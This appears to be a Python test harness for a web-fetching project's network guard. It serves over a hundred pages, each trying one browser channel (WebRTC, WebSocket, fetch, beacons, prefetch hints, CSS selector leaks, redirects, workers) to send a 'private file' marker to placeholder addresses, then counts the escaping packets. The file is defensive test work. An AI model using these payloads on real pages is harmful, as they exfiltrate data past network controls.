"""The ways in which a page could make a browser send something past the guard, each a page of its own.

In a page `@IP@`, `@LOOP@` and `@SIX@` stand for addresses that it must not reach, `@NAME@` for a name that nobody may
ask for; they are its own, so that a packet tells whose it is.
"""

import asyncio
import re
import shutil
from collections import Counter
from collections.abc import Awaitable, Callable, Mapping, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

from loopback import Reply, WebServer
from loopback.island import Packet, watched
from spyglass.fetch.browser import Browser
from spyglass.fetch.crawl4ai import Crawl4ai
from spyglass.kernel.errors import FetchError
from spyglass.kernel.settings import Settings

AT_ONCE = 10
"""Pages that are open at once."""

SECONDS = 3.0
"""How long a page is open at least."""

STAY = "<script>fetch('/wait')</script>"
"""What keeps a page open for so long."""

PATIENCE = 20.0
"""Seconds after which a page is given up that hinders the browser that nothing holds back."""

SAID = "the-text-of-a-private-file"


@dataclass(frozen=True)
class Vector:
    """A page; `status` and `headers` are those of its answer."""

    name: str
    html: str
    status: int = 200
    headers: Mapping[str, str] = field(default_factory=dict)


def _script(code: str) -> str:
    """Run a script for which `url`, `said` and `tls` are where to send what."""
    known = f"const said = '{SAID}', url = 'http://@IP@/' + said, tls = 'https://@IP@/' + said;"
    return f"<p>A page.<script type=module>{known}\n{code}</script>"


def _element(markup: str) -> str:
    return f"<p>A page.{markup.replace('URL', f'http://@IP@/{SAID}')}"


def _peer(server: str, *, more: str = "") -> str:
    """Gather the ways to a peer, with the help of a server that is told what the page has read."""
    return _script(
        f"const server = {{urls: '{server}', username: said, credential: 'x'}};"
        f"const peer = new RTCPeerConnection({{iceServers: [server]{more}}});"
        "peer.createDataChannel(said); peer.setLocalDescription(await peer.createOffer())"
    )


_CANDIDATE = """
const peer = new RTCPeerConnection(), other = new RTCPeerConnection();
peer.createDataChannel(said);
const offer = await peer.createOffer(); await peer.setLocalDescription(offer);
await other.setRemoteDescription(offer);
const answer = await other.createAnswer(); await other.setLocalDescription(answer);
await peer.setRemoteDescription(answer);
const candidate = 'candidate:1 1 PROTOCOL 2130706431 PLACE typ host';
for (const it of [peer, other]) await it.addIceCandidate({sdpMid: '0', candidate}).catch(() => {});
"""

_WORKER = "new Worker(URL.createObjectURL(new Blob([`CODE`], {type: 'text/javascript'})))"


def _in_worker(code: str) -> str:
    return _script(_WORKER.replace("CODE", code.replace("url", "${url}")))


VECTORS = (
    # WebRTC
    Vector("STUN, UDP", _peer("stun:@IP@:3478")),
    Vector("STUN, UDP, the machine's loopback", _peer("stun:@LOOP@:3478")),
    Vector("STUN, UDP, IPv6", _peer("stun:@SIX@:3478")),
    Vector("STUN, UDP, a name", _peer("stun:@NAME@:3478")),
    Vector("STUN, the port of the web", _peer("stun:@IP@:80")),
    Vector("STUN, gathered before it is needed", _peer("stun:@IP@:3478", more=", iceCandidatePoolSize: 4")),
    Vector("TURN, UDP", _peer("turn:@IP@:3478?transport=udp")),
    Vector("TURN, UDP, IPv6", _peer("turn:@SIX@:3478?transport=udp")),
    Vector("TURN, TCP", _peer("turn:@IP@:3478?transport=tcp")),
    Vector("TURN, TLS", _peer("turns:@IP@:443?transport=tcp")),
    Vector("TURN, DTLS", _peer("turns:@IP@:443?transport=udp")),
    Vector("TURN, a name", _peer("turn:@NAME@:3478?transport=udp")),
    Vector("TURN only", _peer("turn:@IP@:3478?transport=udp", more=", iceTransportPolicy: 'relay'")),
    Vector("ICE, a candidate over UDP", _script(_CANDIDATE.replace("PROTOCOL", "udp").replace("PLACE", "@IP@ 9999"))),
    Vector("ICE, IPv6", _script(_CANDIDATE.replace("PROTOCOL", "udp").replace("PLACE", "@SIXBARE@ 9999"))),
    Vector("ICE, a name", _script(_CANDIDATE.replace("PROTOCOL", "udp").replace("PLACE", "@NAME@ 9999"))),
    Vector("ICE, mDNS", _script(_CANDIDATE.replace("PROTOCOL", "udp").replace("PLACE", "v@N@.local 9999"))),
    Vector(
        "ICE, TCP",
        _script(
            _CANDIDATE.replace("PROTOCOL", "tcp")
            .replace("PLACE", "@IP@ 9999")
            .replace("host'", "host tcptype passive'")
        ),
    ),
    Vector(
        "WebRTC in a frame",
        _element(f'<iframe srcdoc="{_peer("stun:@IP@:3478").replace(chr(34), "&quot;")}"></iframe>'),
    ),
    # Connections that are no requests
    Vector("WebTransport", _script("await new WebTransport(tls).ready")),
    Vector("WebTransport, the machine's loopback", _script("await new WebTransport('https://@LOOP@:4433/').ready")),
    Vector("WebTransport, a name", _script("await new WebTransport('https://@NAME@/').ready")),
    Vector("WebTransport in a worker", _in_worker("new WebTransport('https://@IP@/')")),
    Vector("WebSocket", _script("new WebSocket('ws://@IP@/' + said)")),
    Vector("WebSocket, TLS", _script("new WebSocket('wss://@IP@/' + said)")),
    Vector("WebSocket, another port", _script("new WebSocket('ws://@IP@:8080/' + said)")),
    Vector("WebSocket, IPv6", _script("new WebSocket('ws://@SIX@/' + said)")),
    Vector("WebSocket in a worker", _in_worker("new WebSocket('ws://@IP@/')")),
    Vector("WebSocketStream", _script("new (globalThis.WebSocketStream ?? WebSocket)('ws://@IP@/' + said)")),
    Vector("EventSource", _script("new EventSource(url)")),
    Vector("EventSource in a worker", _in_worker("new EventSource('url')")),
    # Hints
    Vector("DNS prefetch", _element("<link rel=dns-prefetch href=//@NAME@>")),
    Vector("DNS prefetch by header", "<p>A page.", headers={"Link": "<//@NAME@>; rel=dns-prefetch"}),
    Vector(
        "DNS prefetch of links", _element("<meta http-equiv=x-dns-prefetch-control content=on><a href=//@NAME@>x</a>")
    ),
    Vector("preconnect", _element("<link rel=preconnect href=http://@IP@>")),
    Vector("preconnect, TLS", _element("<link rel=preconnect href=https://@IP@>")),
    Vector("preconnect by header", "<p>A page.", headers={"Link": "<http://@IP@>; rel=preconnect"}),
    Vector("preload", _element("<link rel=preload as=script href=URL>")),
    Vector("preload by header", "<p>A page.", headers={"Link": f"<http://@IP@/{SAID}>; rel=preload; as=style"}),
    Vector("module preload", _element("<link rel=modulepreload href=URL>")),
    Vector("prefetch", _element("<link rel=prefetch href=URL>")),
    Vector("prerender", _element("<link rel=prerender href=URL>")),
    Vector(
        "speculation rules, prefetch",
        _element('<script type=speculationrules>{"prefetch": [{"urls": ["URL"], "eagerness": "immediate"}]}</script>'),
    ),
    Vector(
        "speculation rules, prerender",
        _element(
            '<script type=speculationrules>{"prerender": [{"urls": ["/to?@IP@"], "eagerness": "immediate"}]}</script>'
        ),
    ),
    # Requests by scripts
    Vector("fetch", _script("fetch(url, {mode: 'no-cors'})")),
    Vector("fetch, POST", _script("fetch(url, {mode: 'no-cors', method: 'POST', body: said})")),
    Vector("fetch, a preflight", _script("fetch(url, {headers: {'X-Said': said}})")),
    Vector("fetch, TLS", _script("fetch(tls, {mode: 'no-cors'})")),
    Vector("fetch, IPv6", _script("fetch('http://@SIX@/' + said, {mode: 'no-cors'})")),
    Vector("fetch, the machine's loopback", _script("fetch('http://@LOOP@/' + said, {mode: 'no-cors'})")),
    Vector("fetch, another port", _script("fetch('http://@IP@:8080/' + said, {mode: 'no-cors'})")),
    Vector("fetch, as a number", _script("fetch('http://' + (0x0a630000 + @N@) + '/', {mode: 'no-cors'})")),
    Vector("fetch, redirected", _script("fetch('/to?@IP@', {mode: 'no-cors'})")),
    Vector(
        "fetch that outlives its page",
        _script("fetch(url, {mode: 'no-cors', keepalive: true, method: 'POST', body: said})"),
    ),
    Vector(
        "fetch as the page goes",
        _script(
            "addEventListener('pagehide', () => fetch(url, {mode: 'no-cors', keepalive: true}));location.href = '/wait'"
        ),
    ),
    Vector(
        "fetch later",
        _script("globalThis.fetchLater ? fetchLater(tls, {activateAfter: 0}) : fetch(url, {mode: 'no-cors'})"),
    ),
    Vector("fetch in a worker", _in_worker("fetch('url', {mode: 'no-cors'})")),
    Vector(
        "fetch in a shared worker",
        _script("new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url}', {mode: 'no-cors'})`])))"),
    ),
    Vector("fetch in a service worker", _script("navigator.serviceWorker.register('/worker.js?@IP@')")),
    Vector("fetch in a worklet", _script("CSS.paintWorklet.addModule(url)")),
    Vector("import in a worker", _in_worker("import('url')")),
    Vector("XMLHttpRequest", _script("const it = new XMLHttpRequest(); it.open('POST', url); it.send(said)")),
    Vector("beacon", _script("navigator.sendBeacon(url, said)")),
    Vector(
        "beacon as the page goes",
        _script("addEventListener('pagehide', () => navigator.sendBeacon(url, said)); location.href = '/wait'"),
    ),
    Vector("import", _script("import(url)")),
    Vector(
        "import map",
        _element('<script type=importmap>{"imports": {"x": "URL"}}</script><script type=module>import "x"</script>'),
    ),
    Vector("picture by script", _script("new Image().src = url")),
    Vector("sound by script", _script("new Audio(url).play()")),
    Vector("font by script", _script("new FontFace('x', `url(${url})`).load()")),
    # Elements
    Vector("picture", _element("<img src=URL>")),
    Vector("picture, srcset", _element("<img srcset='URL 2x'>")),
    Vector("picture in SVG", _element("<svg><image href=URL /></svg>")),
    Vector("script", _element("<script src=URL></script>")),
    Vector("style sheet", _element("<link rel=stylesheet href=URL>")),
    Vector("style, import", _element("<style>@import 'URL';</style>")),
    Vector("style, background", _element("<style>p { background: url(URL) }</style>")),
    Vector("style, font", _element("<style>@font-face { font-family: x; src: url(URL) } p { font-family: x }</style>")),
    Vector(
        "style, by what is read",
        _element(
            f"<form><input name=email type=email><input name=name value={SAID}><input name=phone></form>"
            "<style>input[value^=the] { background: url(URL) }</style>"
        ),
    ),
    Vector("frame", _element("<iframe src=URL></iframe>")),
    Vector("frame, redirected", _element("<iframe src=/to?@IP@></iframe>")),
    Vector("frame, refreshed", _element("<iframe srcdoc=\"<meta http-equiv=refresh content='0; url=URL'>\"></iframe>")),
    Vector("object", _element("<object data=URL></object>")),
    Vector("embed", _element("<embed src=URL>")),
    Vector("film", _element("<video src=URL autoplay></video>")),
    Vector("poster", _element("<video poster=URL></video>")),
    Vector(
        "form",
        _element(
            "<form method=post action=URL target=x></form><iframe name=x></iframe>"
            "<script>document.forms[0].submit()</script>"
        ),
    ),
    Vector("ping", _element("<a href=#x ping=URL>x</a><script>document.links[0].click()</script>")),
    # Reports
    Vector(
        "CSP report",
        _element("<img src=/x><script>1</script>"),
        headers={"Content-Security-Policy": f"default-src 'none'; report-uri http://@IP@/{SAID}"},
    ),
    # The page itself
    Vector("redirect", "", 302, {"Location": f"http://@IP@/{SAID}"}),
    Vector("redirect, TLS", "", 307, {"Location": f"https://@IP@/{SAID}"}),
    Vector("refresh by header", "<p>A page.", headers={"Refresh": "0; url=http://@IP@/"}),
    Vector("refresh", _element("<meta http-equiv=refresh content='0; url=URL'>")),
    Vector("location", _script("location.href = url")),
    Vector("location, replaced", _script("location.replace(tls)")),
    Vector("navigation", _script("navigation.navigate(url)")),
    Vector("form, at the top", _element("<form action=URL></form><script>document.forms[0].submit()</script>")),
    Vector("link", _element("<a href=URL>x</a><script>document.links[0].click()</script>")),
    Vector("window", _script("window.open(url)")),
    Vector("window without a referrer", _script("window.open(url, '_blank', 'noopener')")),
    Vector("download", _element("<a download href=URL>x</a><script>document.links[0].click()</script>")),
    Vector("source", _script("window.open('view-source:' + url); location.href = url")),
    Vector("data address", _element("<iframe src=\"data:text/html,<img src='URL'>\"></iframe>")),
    Vector(
        "blob address",
        _script(
            "document.body.append(Object.assign(document.createElement('iframe'), "
            "{src: URL.createObjectURL(new Blob([`<img src=${url}>`], {type: 'text/html'}))}))"
        ),
    ),
)


FIRST = 100
"""The number of the first vector: each is the last part of addresses, and none is that of the name server."""


async def guarded(kind: type[Browser | Crawl4ai], web: WebServer, urls: Sequence[str]) -> str:
    """Have the pages rendered as fetching has it done, and return why the browser is exposed, if it is."""
    settings = Settings(network__allow_private=[f"127.0.0.1:{web.port}"])
    async with kind(settings) as renderer:

        async def visit(url: str) -> None:
            with suppress(FetchError):
                await renderer.render(url, settings)

        await _all(visit, urls)
        return renderer.exposed


async def unguarded(web: WebServer, urls: Sequence[str]) -> str:
    """Open the pages in a browser that nothing holds back."""
    from playwright.async_api import Error, async_playwright

    async with async_playwright() as playwright:
        window = await playwright.chromium.launch_persistent_context(
            "",
            executable_path=shutil.which("chromium"),
            chromium_sandbox=False,
            args=["--disable-features=LocalNetworkAccessChecks"],
            ignore_default_args=["--disable-background-networking"],  # which keeps it from fetching ahead
        )

        async def visit(url: str) -> None:
            with suppress(Error, TimeoutError):
                async with asyncio.timeout(PATIENCE):
                    page = await window.new_page()
                    with suppress(Error):
                        await page.goto(url, wait_until="commit")
                    await asyncio.sleep(SECONDS)
                    await page.close()

        await _all(visit, urls)
        await window.close()
    return ""


async def _all(visit: Callable[[str], Awaitable[None]], urls: Sequence[str]) -> None:
    places = asyncio.Semaphore(AT_ONCE)

    async def one(url: str) -> None:
        async with places:
            await visit(url)

    await asyncio.gather(*map(one, urls))


WAYS: dict[str, Callable[[WebServer, Sequence[str]], Awaitable[str]]] = {
    "browser": partial(guarded, Browser),
    "crawl4ai": partial(guarded, Crawl4ai),
    "unguarded": unguarded,
}
"""Who opens the pages."""


def measured(way: str, namespaces: bool = True, first: int = 0, every: int = 1) -> dict[str, Any]:
    """Return how many packets each vector, or `every` so many-th from the `first` on, brought out, on an island.

    Besides, the packets of none of them, and why the browser was exposed.
    """
    if not namespaces:
        Path("/proc/sys/user/max_user_namespaces").write_text("0")
    with watched() as packets:
        exposed = asyncio.run(_visited(WAYS[way], slice(first, None, every)))
    counts = Counter(_number(packet) for packet in packets)
    sent = {vector.name: counts.pop(number, 0) for number, vector in _numbered(slice(first, None, every))}
    return {"sent": sent, "others": [str(packet) for packet in packets if not _number(packet)], "exposed": exposed}


def _numbered(of: slice) -> list[tuple[int, Vector]]:
    return list(enumerate(VECTORS, FIRST))[of]


async def _visited(visit: Callable[[WebServer, Sequence[str]], Awaitable[str]], of: slice) -> str:
    async with WebServer().running() as web:
        web.put(
            "/to",
            lambda asked: Reply(status=302, headers={"Location": f"http://{asked.path.partition('?')[2]}/{SAID}"}),
        )
        web.put("/wait", Reply("<p>Another page.", delay=SECONDS))
        web.put("/worker.js", Reply("fetch('http://' + location.search.slice(1))", content_type="text/javascript"))
        urls = []
        for number, vector in _numbered(of):
            headers = {name: _placed(value, number) for name, value in vector.headers.items()}
            body = _placed(vector.html, number) + STAY
            urls.append(web.put(f"/{number}", Reply(body, vector.status, headers=headers)))
        return await visit(web, urls)


def _placed(text: str, number: int) -> str:
    """Put the places of a vector into its page."""
    places = {
        "@IP@": f"10.99.0.{number}",
        "@LOOP@": f"127.99.0.{number}",
        "@SIX@": f"[fd99::{number}]",
        "@SIXBARE@": f"fd99::{number}",
        "@NAME@": f"v{number}.example",
        "@N@": str(number),
    }
    return re.sub("@[A-Z]+@", lambda found: places[found[0]], text)


def _number(packet: Packet) -> int:
    """Return the number of the vector that a packet belongs to, or 0."""
    if asked := re.search(rb"v(\d{3})[\x05\x07](?:local|example)", packet.data):
        return int(asked[1])
    last = re.search(r"(?:^10\.99\.0\.|^127\.99\.0\.|^fd99::)(\d{3})$", packet.address)
    return int(last[1]) if last else 0
